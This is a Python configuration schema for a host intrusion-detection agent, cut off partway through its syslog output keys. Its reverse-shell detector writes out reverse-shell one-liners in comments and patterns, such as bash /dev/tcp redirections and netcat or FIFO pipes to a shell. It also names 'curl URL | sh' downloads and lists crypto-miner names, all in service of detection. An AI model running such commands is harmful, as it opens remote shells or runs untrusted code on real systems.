"""agent.toml's schema: every key's section, type, default, range and meaning, as data.

One schema serves the agent (config.py validates against it), `config reference` and
`config defaults` (reference.py renders it), the installer and the build systems' config
generation. Plugin sections are `<kind>.<name>`, one per registered collector, detector
and output (a test keeps the two equal). This module is data only: importing it costs
next to nothing on the device.
"""

from __future__ import annotations

from collections import namedtuple

TYPE_CHECKING = False  # typing costs ~0.5 MiB RSS at run time; only mypy needs it
if TYPE_CHECKING:
    from typing import Any, NamedTuple

DEFAULT_PATH = "/etc/defender-agent/agent.toml"
DEFAULT_STATE_DIR = "/var/lib/defender-agent"

if TYPE_CHECKING:

    class Key(NamedTuple):
        """One configuration key: where it lives, its type, default, allowed values and meaning."""

        section: str
        name: str
        type: str  # "bool" | "int" | "float" | "str" | "list" | "enum" | "optbool" | "rules"
        default: Any
        doc: str
        min: float | None = None
        max: float | None = None
        choices: tuple[str, ...] = ()
        unit: str = ""

else:
    Key = namedtuple(
        "Key",
        "section name type default doc min max choices unit",
        defaults=(None, None, (), ""),
    )


_ENABLED_PLUGIN = "Unset: on when in the build; `true` on a build without it is an error."


def _priority(section: str, event: str, identity: str) -> Key:
    """The `priority` key of a collector whose events are aggregated (aggregate.py)."""
    return Key(
        section,
        "priority",
        "enum",
        "medium",
        f"Aggregation of `{event}` events: high, medium or low write identical ones "
        f"({identity}) as one record with a count per [aggregation] period (default "
        "medium, as the micro agent's); none writes each one at once. Detectors see "
        "every one at once either way.",
        choices=("none", "high", "medium", "low"),
    )


def _format(section: str) -> Key:
    """The `format` key of an output: the records' own JSON or Elastic Common Schema."""
    return Key(
        section,
        "format",
        "enum",
        "defender",
        "Record form: defender (the defender/1 JSON of docs/events.md) or ecs (Elastic "
        "Common Schema field names, for Filebeat, Fluent Bit, Vector or Logstash).",
        choices=("defender", "ecs"),
    )


def _incident_keys(section: str, quiet_doc: str, update_doc: str) -> tuple[Key, ...]:
    """The `quiet`, `update_every` and `max_incidents` keys of a detector with incidents."""
    return (
        Key(section, "quiet", "float", 3600.0, quiet_doc, min=60, max=604800, unit="s"),
        Key(section, "update_every", "float", 300.0, update_doc, min=1, max=86400, unit="s"),
        Key(
            section,
            "max_incidents",
            "int",
            256,
            "Incidents remembered at once; the least recently seen is forgotten (counted).",
            min=16,
            max=100000,
        ),
    )


SYSLOG_FACILITIES = (
    "kern",
    "user",
    "mail",
    "daemon",
    "auth",
    "syslog",
    "lpr",
    "news",
    "uucp",
    "cron",
    "authpriv",
    "ftp",
    *(f"local{n}" for n in range(8)),
)

SCHEMA: tuple[Key, ...] = (
    Key(
        "agent",
        "device_id",
        "str",
        "",
        "Device id in every record; empty = /etc/machine-id, else the host name.",
    ),
    Key(
        "agent",
        "state_dir",
        "str",
        DEFAULT_STATE_DIR,
        "Directory for state.json (follower offsets) and, by default, events.jsonl.",
    ),
    Key(
        "agent",
        "log_level",
        "enum",
        "info",
        "Level of the agent's own log on stderr.",
        choices=("debug", "info", "warning", "error"),
    ),
    Key(
        "agent",
        "heartbeat_interval",
        "float",
        300.0,
        "Seconds between heartbeat records.",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "agent",
        "statistics_interval",
        "float",
        3600.0,
        "Seconds between statistics records (emitted, dropped, skipped counts).",
        min=1,
        max=604800,
        unit="s",
    ),
    Key("collectors.login", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "collectors.login",
        "auth_logs",
        "list",
        ["/var/log/auth.log", "/var/log/secure", "/var/log/messages"],
        "Syslog files with sshd/dropbear/login messages; missing files are waited for.",
    ),
    Key(
        "collectors.login",
        "journal",
        "enum",
        "auto",
        "Read sshd/dropbear/login messages from the systemd journal (through journalctl) "
        "instead of auth_logs: on, off, or auto (when none of auth_logs exists, a journal "
        "does, and journalctl is installed).",
        choices=("auto", "on", "off"),
    ),
    Key(
        "collectors.login",
        "journalctl",
        "str",
        "journalctl",
        "The journalctl program (a PATH search without a slash).",
    ),
    Key(
        "collectors.login",
        "journal_directory",
        "str",
        "",
        "A journal directory to read (journalctl --directory); empty = the system journal.",
    ),
    Key(
        "collectors.login",
        "wtmp",
        "str",
        "/var/log/wtmp",
        "utmp-format log of logins and logouts; empty = do not follow.",
    ),
    Key(
        "collectors.login",
        "btmp",
        "str",
        "/var/log/btmp",
        "utmp-format log of failed logins; empty = do not follow.",
    ),
    Key(
        "collectors.login",
        "backend",
        "enum",
        "auto",
        "How to notice file changes: inotify, stat polling, or auto (inotify when available).",
        choices=("auto", "inotify", "poll"),
    ),
    Key(
        "collectors.login",
        "poll_interval",
        "float",
        1.0,
        "Seconds between stat polls when polling.",
        min=0.1,
        max=60,
        unit="s",
    ),
    Key(
        "collectors.login",
        "mode",
        "enum",
        "normal",
        "normal: failed logins, refused users and connections that end at the login; "
        "aggressive: also connections that end before any login attempt (key-exchange "
        "failures, `no matching ...`, scanners), one failure per connection.",
        choices=("normal", "aggressive"),
    ),
    Key(
        "collectors.login",
        "utmp_layout",
        "enum",
        "auto",
        "utmp record size: 384 (x86, x86_64, 32-bit ARM) or 400 (aarch64); auto = by CPU.",
        choices=("auto", "384", "400"),
    ),
    Key(
        "collectors.login",
        "dedup_hold",
        "float",
        2.0,
        "Seconds a btmp/wtmp record waits for the matching auth-log line before it is "
        "emitted alone (one attempt = one event).",
        min=0,
        max=30,
        unit="s",
    ),
    Key("collectors.sysinfo", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "collectors.sysinfo",
        "interval",
        "float",
        86400.0,
        "Seconds between system-information events (one is sent at start).",
        min=60,
        max=2592000,
        unit="s",
    ),
    Key("collectors.process", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "collectors.process",
        "backend",
        "enum",
        "auto",
        "Where programs started are seen: netlink (the kernel's process connector, every "
        "exec as it happens; CAP_NET_ADMIN before Linux 6.6), proc (a scan of /proc every "
        "poll_interval: a process shorter than that is missed), or auto (netlink when the "
        "kernel accepts it, else proc).",
        choices=("auto", "netlink", "proc"),
    ),
    Key(
        "collectors.process",
        "poll_interval",
        "float",
        1.0,
        "Seconds between /proc scans when polling (the first scan is a silent baseline).",
        min=0.1,
        max=60,
        unit="s",
    ),
    Key(
        "collectors.process",
        "exits",
        "bool",
        False,
        "Also send a process-exit event (pid, exit code or signal) for every process that "
        "ends: only when a detector asks for it.",
    ),
    Key(
        "collectors.process",
        "proc",
        "str",
        "/proc",
        "Where procfs is mounted (another place: an agent in a container watching its host "
        "through the host's /proc, in the host's PID namespace).",
    ),
    _priority("collectors.process", "process-exec", "executable, command line, user"),
    Key("collectors.network", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "collectors.network",
        "backend",
        "enum",
        "auto",
        "Where the TCP and UDP socket tables come from: sock_diag (netlink), proc "
        "(/proc/net text tables), or auto (sock_diag for each protocol the kernel's "
        "sock_diag handles, /proc/net for the others). Raw sockets always come from "
        "/proc/net/raw and raw6.",
        choices=("auto", "sock_diag", "proc"),
    ),
    Key(
        "collectors.network",
        "poll_interval",
        "float",
        5.0,
        "Seconds between looks at the socket tables. A connection opened and closed "
        "between two looks is seen only if one end lingers (TIME_WAIT). While an event "
        "source announces new connections (a SYN or SYN-ACK from connection_attempts' "
        "capture, a conntrack event), a look follows each announcement after 0.5 s but "
        "never sooner than this after the previous one.",
        min=1,
        max=3600,
        unit="s",
    ),
    Key(
        "collectors.network",
        "idle_poll_interval",
        "float",
        60.0,
        "Seconds between looks while nothing happens, when an event source announces "
        "new TCP connections (otherwise every poll_interval): a quiet device is not "
        "woken every poll_interval for nothing. What no event announces (a new "
        "listener, a UDP socket) is then seen within this.",
        min=1,
        max=3600,
        unit="s",
    ),
    Key(
        "collectors.network",
        "report_existing",
        "bool",
        False,
        "Report the connections already open at start as `connection` events; otherwise "
        "the first look is a silent baseline (the listen snapshot is always sent).",
    ),
    Key(
        "collectors.network",
        "owners",
        "bool",
        True,
        "Find the pid and executable of each new socket from /proc/*/fd (a scan only when "
        "a socket with an inode never looked up appears; other users' processes need "
        "CAP_DAC_READ_SEARCH and CAP_SYS_PTRACE).",
    ),
    Key(
        "collectors.network",
        "max_connections",
        "int",
        4096,
        "Connections tracked at most; new ones beyond are neither tracked nor reported "
        "(counted as table-full).",
        min=16,
        max=1000000,
    ),
    Key(
        "collectors.network",
        "max_listen",
        "int",
        1024,
        "Listening sockets in the snapshot at most (more: counted, `truncated` set).",
        min=16,
        max=65536,
    ),
    Key(
        "collectors.network",
        "proc",
        "str",
        "/proc",
        "Where procfs is mounted: /proc/net tables and /proc/PID/fd owners.",
    ),
    Key(
        "collectors.network",
        "conntrack",
        "enum",
        "auto",
        "Connection tracking events (NETLINK_NETFILTER; CAP_NET_ADMIN, CONFIG_NF_CT_NETLINK): "
        "every new TCP and UDP flow of the host as it starts, however short, as a "
        "`connection` event. Only flows of the agent's network namespace, and only while a "
        "firewall rule or NAT there uses conntrack. auto: when the kernel allows it; on: "
        "the same, and an error in the log and check when it does not; off: never.",
        choices=("auto", "on", "off"),
    ),
    Key(
        "collectors.network",
        "connection_attempts",
        "enum",
        "auto",
        "`connection-attempt` events for inbound TCP SYNs to ports nothing listens on (a "
        "packet socket with a SYN filter; CAP_NET_RAW, CONFIG_PACKET). auto: when the "
        "kernel allows it; on: the same, and an error in the log and check when it does "
        "not; off: never.",
        choices=("auto", "on", "off"),
    ),
    Key(
        "collectors.network",
        "attempt_rate",
        "int",
        200,
        "`connection-attempt` events per second at most (a token bucket with as many in "
        "reserve); the rest are counted as attempt-rate-limited.",
        min=1,
        max=100000,
    ),
    _priority(
        "collectors.network",
        "connection` and `connection-attempt",
        "direction, protocol, addresses, remote port; an inbound one's local port; an "
        "attempt's addresses and local port",
    ),
    Key("detectors.brute_force", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.brute_force",
        "max_failures",
        "int",
        5,
        "Failed logins from one source within `window` that raise an alert.",
        min=1,
        max=1000,
    ),
    Key(
        "detectors.brute_force",
        "window",
        "float",
        60.0,
        "Seconds the failures must fall within; also the quiet time before a new alert.",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.brute_force",
        "success_window",
        "float",
        600.0,
        "A login from a source with `max_failures` failures this many seconds before it "
        "raises BruteForceSuccess.",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.brute_force",
        "slow_max_failures",
        "int",
        10,
        "BruteForceSlow: failed logins from one source within `slow_window` (0: off). "
        "One guess every 30 s never makes the fast rule's 5 in a minute; this catches it.",
        min=0,
        max=10000,
    ),
    Key(
        "detectors.brute_force",
        "slow_window",
        "float",
        600.0,
        "Seconds the slow rule's failures must fall within.",
        min=60,
        max=604800,
        unit="s",
    ),
    Key(
        "detectors.brute_force",
        "enumeration_users",
        "int",
        5,
        "UserEnumeration: distinct user names tried from one source within "
        "`enumeration_window` (0: off). People who mistype try one or two names.",
        min=0,
        max=1000,
    ),
    Key(
        "detectors.brute_force",
        "enumeration_window",
        "float",
        600.0,
        "Seconds the distinct user names must fall within.",
        min=10,
        max=604800,
        unit="s",
    ),
    Key(
        "detectors.brute_force",
        "max_sources",
        "int",
        4096,
        "Sources tracked at once; the oldest is evicted (and counted) beyond this.",
        min=16,
        max=1000000,
    ),
    Key(
        "detectors.brute_force",
        "max_bytes",
        "int",
        1048576,
        "Memory the source table may use; the least recently active source is evicted "
        "(and counted) beyond it, so no flood of sources or long user names can grow it.",
        min=65536,
        max=1 << 30,
        unit="bytes",
    ),
    Key("detectors.custom", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.custom",
        "rules",
        "rules",
        [],
        "Custom alert rules, one [[detectors.custom.rules]] table each: name, type, "
        "severity, description and the type's fields (docs/alerts.md).",
    ),
    Key("detectors.port_scan", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.port_scan",
        "in_ports",
        "int",
        15,
        "PortScan (inbound): distinct ports of this device probed by one source within "
        "`window`, counting SYNs to closed ports and accepted connections (0: off). "
        "CrowdSec's port-scan scenario takes 15 distinct ports; a client uses two or three.",
        min=0,
        max=65536,
    ),
    Key(
        "detectors.port_scan",
        "out_ports",
        "int",
        15,
        "PortScan (outbound): distinct ports of one remote host this device connects to "
        "within `window` (0: off).",
        min=0,
        max=65536,
    ),
    Key(
        "detectors.port_scan",
        "out_hosts",
        "int",
        100,
        "PortScan (outbound): distinct hosts this device connects to on one port within "
        "`window` (0: off). A bot's sweep reaches hundreds a minute; a busy web client a "
        "few dozen.",
        min=0,
        max=100000,
    ),
    Key(
        "detectors.port_scan",
        "window",
        "float",
        60.0,
        "Seconds of event time the distinct ports or hosts must fall within (nmap's "
        "default timing probes hundreds a second; -T2 one every 0.4 s: 15 in 6 s).",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.port_scan",
        "out_protocols",
        "list",
        ["tcp"],
        "Protocols of outbound flows counted: tcp and/or udp. UDP is left out by default: "
        "a DNS resolver or an NTP client asks many servers on 53 and 123.",
    ),
    Key(
        "detectors.port_scan",
        "ignore_addresses",
        "list",
        ["127.0.0.0/8", "::1"],
        "Remote addresses never counted (CIDRs or addresses): loopback, where a device's "
        "own services talk to each other on many ports. Private ranges are not ignored: "
        "attacks on devices often come from the LAN.",
    ),
    Key(
        "detectors.port_scan",
        "max_keys",
        "int",
        1024,
        "Sources, targets and ports tracked at once; the least recently active is "
        "forgotten (and counted as keys-evicted) beyond it, so a spoofed SYN flood cannot "
        "grow the table.",
        min=16,
        max=1000000,
    ),
    Key(
        "detectors.port_scan",
        "max_items",
        "int",
        16384,
        "Ports and hosts remembered over all tracked keys (each key keeps at most its "
        "threshold); beyond it the least recently active key is forgotten.",
        min=64,
        max=10000000,
    ),
    Key("detectors.botnet", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.botnet",
        "scan_ports",
        "list",
        ["23", "2323", "22", "5555", "7547", "37215", "52869"],
        "TCP ports IoT bots scan for (telnet, ssh, adb, TR-069, Huawei HG532, Realtek "
        "SDK): BotnetScan counts the distinct hosts one process tries on each.",
    ),
    Key(
        "detectors.botnet",
        "scan_hosts",
        "int",
        32,
        "BotnetScan: distinct hosts one process connects to on one of `scan_ports` within "
        "`scan_window` (0: off). Mirai tries 160 a second; a client talks to a few servers.",
        min=0,
        max=100000,
    ),
    Key(
        "detectors.botnet",
        "scan_hosts_any_port",
        "int",
        128,
        "BotnetScan: distinct hosts one process connects to on any other TCP port within "
        "`scan_window` (0: off); higher, as a busy web client reaches dozens on 443.",
        min=0,
        max=100000,
    ),
    Key(
        "detectors.botnet",
        "scan_window",
        "float",
        60.0,
        "Seconds of event time the scanned hosts must fall within.",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.botnet",
        "system_paths",
        "list",
        ["/bin/", "/sbin/", "/usr/", "/lib/", "/lib64/"],
        "Directories of the system's own programs: a raw socket or a deleted program "
        "file under them (the old copy of a package upgraded while it runs) is no alert.",
    ),
    Key(
        "detectors.botnet",
        "raw_sockets",
        "bool",
        True,
        "BotnetRawSocket: a raw socket held by a program outside `system_paths`.",
    ),
    Key(
        "detectors.botnet",
        "deleted_executables",
        "bool",
        True,
        "BotnetDeletedExecutable: a program outside `system_paths` running from a "
        "deleted file (at its start, or holding a connection or listening socket).",
    ),
    Key(
        "detectors.botnet",
        "fake_kernel_threads",
        "bool",
        True,
        "BotnetFakeKernelThread: a program started under a kernel thread's name "
        "([kworker/0:1]); kernel threads have no executable.",
    ),
    Key(
        "detectors.botnet",
        "artefact_listeners",
        "list",
        ["tcp/48101"],
        'BotnetArtefact: TCP ports bots listen on ("tcp/PORT"); Mirai binds '
        "127.0.0.1:48101 so that one copy runs. Empty: off.",
    ),
    Key(
        "detectors.botnet",
        "max_keys",
        "int",
        1024,
        "Process and port pairs tracked for BotnetScan; the least recently active is "
        "forgotten (and counted as keys-evicted) beyond it.",
        min=16,
        max=1000000,
    ),
    Key(
        "detectors.botnet",
        "max_items",
        "int",
        16384,
        "Hosts remembered over all tracked pairs (each keeps at most its threshold); "
        "beyond it the least recently active pair is forgotten.",
        min=64,
        max=10000000,
    ),
    Key("detectors.crypto_miner", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.crypto_miner",
        "names",
        "list",
        [
            "xmrig",
            "xmrig-notls",
            "xmrig-cuda",
            "xmr-stak",
            "xmr-stak-cpu",
            "xmr-stak-rx",
            "cpuminer",
            "cpuminer-multi",
            "cpuminer-opt",
            "minerd",
            "minergate",
            "minergate-cli",
            "cgminer",
            "bfgminer",
            "sgminer",
            "ccminer",
            "claymore",
            "ethminer",
            "nbminer",
            "t-rex",
            "gminer",
            "lolminer",
            "phoenixminer",
            "nanominer",
            "bminer",
            "wildrig",
            "srbminer",
            "srbminer-multi",
            "teamredminer",
        ],
        "Miner program names, compared (without case) with the whole basename of the "
        "executable or of argv[0]: `xmrig-docs-viewer` is not `xmrig`. A name scores one "
        "point; for a named program any outbound connection scores another.",
    ),
    Key(
        "detectors.crypto_miner",
        "pool_urls",
        "list",
        ["stratum+tcp://", "stratum+ssl://", "stratum+tls://", "stratum2+", "stratum1+"],
        "Pool-URL markers looked for (without case) anywhere in the command line: the "
        "mining protocol named, two points, so it alerts alone.",
    ),
    Key(
        "detectors.crypto_miner",
        "options",
        "list",
        [
            "--donate-level",
            "--coin",
            "-a rx/0",
            "-a rx",
            "--algo",
            "--cpu-priority",
            "--cpu-max-threads-hint",
            "--max-cpu-usage",
            "--randomx-mode",
            "--randomx-1gb-pages",
            "--randomx-no-numa",
            "--nicehash",
            "--rig-id",
        ],
        "Miner options: an argument equal to one (before any `=`), or two arguments "
        "equal to one with a space. Any number of them scores one point.",
    ),
    Key(
        "detectors.crypto_miner",
        "pool_ports",
        "list",
        [
            "3333",
            "3334",
            "3335",
            "3336",
            "3357",
            "4444",
            "5555",
            "5556",
            "5588",
            "5730",
            "6099",
            "6666",
            "7777",
            "7778",
            "8333",
            "8888",
            "8899",
            "9332",
            "9999",
            "14433",
            "14444",
            "45560",
            "45700",
        ],
        "Remote ports of mining pools (Falco's list). An outbound connection to one "
        "scores one point: never an alert alone (3333, 4444, 5555 are development ports).",
    ),
    Key(
        "detectors.crypto_miner",
        "writable_paths",
        "list",
        ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/home/", "/root/", "/run/user/"],
        "Directories (prefixes) where a program with an outbound connection becomes a "
        "candidate for the CPU check, as does a deleted program.",
    ),
    Key(
        "detectors.crypto_miner",
        "cpu_percent",
        "float",
        80.0,
        "CPU a candidate must hold, in percent of one CPU, on average over `cpu_window` "
        "(a multi-threaded miner holds more than 100).",
        min=1,
        max=10000,
        unit="%",
    ),
    Key(
        "detectors.crypto_miner",
        "cpu_window",
        "float",
        120.0,
        "Seconds of the runtime clock the CPU average is taken over.",
        min=10,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.crypto_miner",
        "sample_interval",
        "float",
        10.0,
        "Seconds between reads of a candidate's /proc/PID/stat (only while there are candidates).",
        min=1,
        max=3600,
        unit="s",
    ),
    Key(
        "detectors.crypto_miner",
        "min_connection_age",
        "float",
        180.0,
        "Seconds a candidate's outbound connection must have lasted (and still be "
        "established) before the CPU check can raise the alert.",
        min=0,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.crypto_miner",
        "max_candidates",
        "int",
        16,
        "Candidates sampled at once; the oldest is dropped (and counted) beyond this.",
        min=1,
        max=1024,
    ),
    Key(
        "detectors.crypto_miner",
        "max_processes",
        "int",
        256,
        "Processes with some evidence remembered; the least recently seen is evicted "
        "(and counted) beyond this.",
        min=16,
        max=65536,
    ),
    Key(
        "detectors.crypto_miner",
        "proc",
        "str",
        "/proc",
        "Where procfs is mounted (as collectors.process.proc).",
    ),
    Key("detectors.reverse_shell", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.reverse_shell",
        "proc",
        "str",
        "/proc",
        "Where procfs is mounted: a shell's /proc/PID/fd/0-2 and its own network "
        "namespace's net/tcp, tcp6, udp, udp6 are read there at its exec (as "
        "collectors.process.proc).",
    ),
    Key(
        "detectors.reverse_shell",
        "shells",
        "list",
        [
            "sh",
            "ash",
            "bash",
            "dash",
            "hush",
            "ksh",
            "mksh",
            "zsh",
            "csh",
            "tcsh",
            "fish",
            "python*",
            "perl*",
            "ruby*",
            "php*",
            "lua*",
            "node",
            "nodejs",
            "tclsh*",
        ],
        "Programs (executable or argv[0] basename; busybox by its applet; `name*` by "
        "prefix) that raise ReverseShell when their stdin and stdout or stderr are one "
        "TCP or UDP connection.",
    ),
    Key(
        "detectors.reverse_shell",
        "patterns",
        "list",
        [
            # bash's /dev/tcp redirections feeding a shell: `bash -i >& /dev/tcp/H/P 0>&1`,
            # `exec 5<>/dev/tcp/H/P`; a port check `</dev/tcp/H/22` has neither `>&`, `<&` nor `<>`
            "dev-tcp: has=/dev/tcp/,/dev/udp/ has=>&,<&,<>",
            # netcat handing a program to the connection: nc -e, ncat -c/--sh-exec, busybox nc -e
            "netcat-exec: prog=nc,ncat,netcat,nc.traditional,nc.openbsd,pwncat "
            "opt=e,c,--exec,--sh-exec,--lua-exec",
            # socat connecting a network address to a program (a pty to a program is not one)
            "socat-exec: prog=socat has=exec:,system: has=tcp,udp,ssl,sctp,socks",
            # a FIFO closing the loop: mkfifo f; cat f | sh -i 2>&1 | nc H P > f
            "fifo-pipe: has=mkfifo,mknod has=%20nc%20,|nc%20,/nc%20,ncat,netcat,telnet%20,"
            "s_client,socat%20 has=/sh,sh%20-i,bash,|sh,|%20sh",
            # telnet H P | /bin/sh | telnet H P2
            "telnet-pipe: has=telnet%20 has=|sh,|%20sh,|/bin/sh,|%20/bin/sh,|bash,|%20bash,"
            "|/bin/bash,|%20/bin/bash",
            "awk-inet: prog=awk,gawk has=/inet/tcp/,/inet/udp/,/inet4/tcp/,/inet6/tcp/",
            # one-liners that open a socket and hand it to a shell
            "python-socket: prog=python* opt=c has=socket has=pty.spawn,subprocess,dup2,"
            "os.exec,popen,os.system",
            "perl-socket: prog=perl* opt=e,E has=socket has=exec,system,dup2,fdopen,open(stdin",
            "ruby-socket: prog=ruby* opt=e has=socket has=exec,spawn,system,popen,reopen,dup2",
            "php-socket: prog=php* opt=r has=fsockopen,socket_create,stream_socket_client "
            "has=exec,system,passthru,popen,proc_open,`",
            "lua-socket: prog=lua* opt=e has=socket has=os.execute,io.popen",
            "node-socket: prog=node,nodejs opt=e has=net.socket,net.connect,createconnection,"
            "require('net'),require(%22net%22) has=child_process",
        ],
        "Reverse-shell command lines, `NAME: KIND=ALT,ALT ...` (every term must hold, any "
        "alternative of a term): has (substring, lower case), prog (program name), arg "
        "(an exact argument), opt (short option letter, also in a cluster, or --long). "
        "%20 is a space, %2C a comma (docs/alerts.md). At most 256.",
    ),
    Key(
        "detectors.reverse_shell",
        "allow_parents",
        "list",
        [],
        "Parent executables (full paths) whose shell children may have a connection as "
        "stdio: an inetd or socket-activated unit that runs a shell script as its service.",
    ),
    Key(
        "detectors.reverse_shell",
        "max_socket_rows",
        "int",
        4096,
        "Rows read from each of a shell's socket tables to find its stdin's connection "
        "(only when stdin is a socket); a cut table is counted as socket-table-cut.",
        min=64,
        max=1000000,
    ),
    *_incident_keys(
        "detectors.reverse_shell",
        "Seconds (event time) without a finding that end an incident; a finding after "
        "that is a new alert.",
        "Seconds (event time) between updates of an open incident's alert (its count, "
        "last_seen and newest evidence), written only when it has grown.",
    ),
    Key("detectors.download_then_run", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.download_then_run",
        "fetchers",
        "list",
        [
            "curl=curl",
            "curl-minimal=curl",
            "wget=wget",
            "wget2=wget",
            "uclient-fetch=wget",
            "tftp=tftp",
            "atftp=tftp",
        ],
        "Download programs as NAME=STYLE, STYLE one of curl, wget, tftp (how their "
        "arguments name the output file); busybox applets count by their names.",
    ),
    Key(
        "detectors.download_then_run",
        "watched_dirs",
        "list",
        ["/tmp", "/dev/shm", "/var/tmp"],
        "Directories (at any depth) where a downloaded file made executable or run "
        "raises DownloadThenRun: the world-writable places droppers use.",
    ),
    Key(
        "detectors.download_then_run",
        "window",
        "float",
        300.0,
        "Seconds (event time) between the download and the chmod or run. Droppers run "
        "their download within seconds.",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.download_then_run",
        "interpreters",
        "list",
        [
            "sh",
            "ash",
            "bash",
            "dash",
            "hush",
            "ksh",
            "mksh",
            "zsh",
            "python*",
            "perl*",
            "ruby*",
            "php*",
            "lua*",
            "node",
        ],
        "Programs whose script argument counts as running the downloaded file "
        "(`sh /tmp/x.sh`), and the shells a fetch piped into (`curl URL | sh`) raises "
        "the alert for; `name*` by prefix.",
    ),
    Key(
        "detectors.download_then_run",
        "pipe_to_shell",
        "bool",
        True,
        "Also raise DownloadThenRun for a fetch piped into a shell (`curl URL | sh`) "
        "seen in a shell's or its parent's command line (sh -c, cron, a payload).",
    ),
    Key(
        "detectors.download_then_run",
        "package_managers",
        "list",
        [
            "dpkg",
            "apt",
            "apt-get",
            "aptitude",
            "unattended-upgrade",
            "unattended-upgrades",
            "rpm",
            "dnf",
            "yum",
            "microdnf",
            "zypper",
            "opkg",
            "ipkg",
            "apk",
            "pacman",
            "swupdate",
            "rauc",
            "mender",
        ],
        "Programs whose processes, and every process seen descending from them, are "
        "neither a download nor a run: upgrades unpack and run files in /tmp.",
    ),
    Key(
        "detectors.download_then_run",
        "package_scripts",
        "list",
        [
            "/var/lib/dpkg/info/",
            "/var/lib/opkg/info/",
            "/usr/lib/opkg/info/",
            "/var/tmp/rpm-tmp.",
            "/lib/apk/exec/",
        ],
        "Text in a command line (the process's or its parent's) that marks a package's "
        "maintainer script: trusted like package_managers.",
    ),
    Key(
        "detectors.download_then_run",
        "max_fetches",
        "int",
        256,
        "Downloads remembered within the window (each by path, and by directory and uid "
        "when the name is uncertain); the oldest is forgotten (counted) beyond it.",
        min=16,
        max=100000,
    ),
    *_incident_keys(
        "detectors.download_then_run",
        "Seconds (event time) without a finding that end an incident (one per file).",
        "Seconds (event time) between updates of an open incident's alert.",
    ),
    Key("detectors.threat_intel", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key(
        "detectors.threat_intel",
        "path",
        "str",
        "/etc/defender-agent/threat-intel.txt",
        "The list: one IPv4/IPv6 address or CIDR a line, `#` and `;` comments (Spamhaus "
        "DROP and FireHOL .netset files as published). Missing: no alerts, no error. It "
        "ships with no entries (docs/alerts.md).",
    ),
    Key(
        "detectors.threat_intel",
        "max_entries",
        "int",
        65536,
        "Entries read at most; the rest are counted as over-cap. 65536 IPv4 entries take "
        "about 0.8 MiB kept (4 MiB while loading) and 0.25 s to load on a PC core.",
        min=1,
        max=1000000,
    ),
    Key(
        "detectors.threat_intel",
        "check_interval",
        "float",
        60.0,
        "Seconds between looks at the file's inode, size and mtime; it is read again "
        "when they changed.",
        min=1,
        max=86400,
        unit="s",
    ),
    Key(
        "detectors.threat_intel",
        "inbound",
        "bool",
        True,
        "Also alert on inbound connections from a listed address (to a service that "
        "accepted them); false: outbound only.",
    ),
    Key(
        "aggregation",
        "high",
        "float",
        1800.0,
        "Seconds between writes of aggregated events of high-priority collectors (identical "
        "events in between become one record with a count).",
        min=1,
        max=604800,
        unit="s",
    ),
    Key(
        "aggregation",
        "medium",
        "float",
        7200.0,
        "Seconds between writes of aggregated events of medium-priority collectors.",
        min=1,
        max=604800,
        unit="s",
    ),
    Key(
        "aggregation",
        "low",
        "float",
        86400.0,
        "Seconds between writes of aggregated events of low-priority collectors.",
        min=1,
        max=604800,
        unit="s",
    ),
    Key(
        "aggregation",
        "max_entries",
        "int",
        256,
        "Distinct events held per priority; a full table writes its oldest entry early.",
        min=1,
        max=65536,
    ),
    Key("outputs.file", "enabled", "optbool", None, _ENABLED_PLUGIN),
    Key("outputs.file", "path", "str", "", "JSON-lines file; empty = <state_dir>/events.jsonl."),
    Key(
        "outputs.file",
        "max_bytes",
        "int",
        1048576,
        "Rotate the file when it would grow beyond this size.",
        min=4096,
        max=1 << 34,
        unit="bytes",
    ),
    Key(
        "outputs.file",
        "backups",
        "int",
        3,
        "Rotated files kept (events.jsonl.1 ...).",
        min=0,
        max=20,
    ),
    _format("outputs.file"),
    Key(
        "outputs.stdout",
        "enabled",
        "bool",
        False,
        "Also write records to standard output (`run --stdout` turns it on).",
    ),
    _format("outputs.stdout"),
    Key(
        "outputs.syslog",
        "enabled",
        "bool",
        False,
        "Send records as syslog messages (docs/outputs.md); off unless set, like every "
        "output that sends data off the agent.",
    ),
    Key(
        "outputs.syslog",
        "transport",
        "enum",
        "unix",
        "unix (datagrams to the local socket at `address`), udp, tcp (RFC 6587 octet "
        "counting) or tls (RFC 5425) to the collector at `address`:`port`.",
        choices=("unix", "udp", "tcp", "tls"),
    ),
    Key(
        "outputs.syslog",
        "address",
        "str",
        "/dev/log",
        "The local socket (unix), else the collector's address or host name (a name is "
        "resolved at each connection attempt, which waits for DNS: prefer an address).",
    ),
    Key(
        "outputs.syslog",
        "port",
        "int",
        0,
        "The collector's port; 0 = 514 for udp and tcp, 6514 for tls.",
        min=0,
        max=65535,
    ),
    Key(
        "outputs.syslog",
        "message_format",
        "enum",
        "auto",
        "rfc5424 (header, structured data, MSG) or rfc3164 (`<PRI>Mmm dd hh:mm:ss "
        "defender-agent[pid]: MSG`, as syslog(3) writes it, without structured data); "
        "auto = rfc3164 on the unix socket (what journald and busybox syslogd parse), "
        "rfc5424 over the network.",
        choices=("auto", "rfc5424", "rfc3164"),
    ),
    Key(
        "outputs.syslog",
        "facility",
        "enum",
        "daemon",
        "Syslog facility of every message (auth and authpriv land in the auth log the "
        "login collector may read).",
        choices=SYSLOG_FACILITIES,
    ),
    Key(
